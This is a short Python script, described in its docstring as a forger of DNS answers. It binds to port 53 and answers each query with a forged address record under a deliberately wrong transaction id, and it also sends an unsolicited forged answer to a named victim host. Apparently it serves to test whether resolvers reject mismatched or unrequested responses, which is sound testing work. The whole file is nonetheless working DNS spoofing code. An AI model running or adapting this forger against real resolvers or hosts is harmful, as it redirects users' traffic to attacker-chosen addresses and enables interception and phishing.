#!/usr/bin/python3
# SPDX-License-Identifier: Apache-2.0
"""A forger of DNS answers: gives each question one under a wrong id, and the victim one it never asked for.

    forge.py NAME ADDRESS VICTIM
"""
import socket
import struct
import sys

name, address, victim = sys.argv[1:]
QUESTION = b"".join(bytes([len(label)]) + label.encode() for label in name.split(".")) + b"\0" + struct.pack("!HH", 1, 1)
ANSWER = b"\xc0\x0c" + struct.pack("!HHIH", 1, 1, 3600, 4) + socket.inet_aton(address)


def answer(number):
    return struct.pack("!6H", number, 0x8180, 1, 1, 0, 0) + QUESTION + ANSWER


with socket.socket(socket.AF_INET, socket.SOCK_DGRAM) as server:
    server.bind(("", 53))
    while True:
        asked, client = server.recvfrom(4096)
        server.sendto(answer(struct.unpack_from("!H", asked)[0] ^ 1), client)
        server.sendto(answer(7), (victim, 40000))
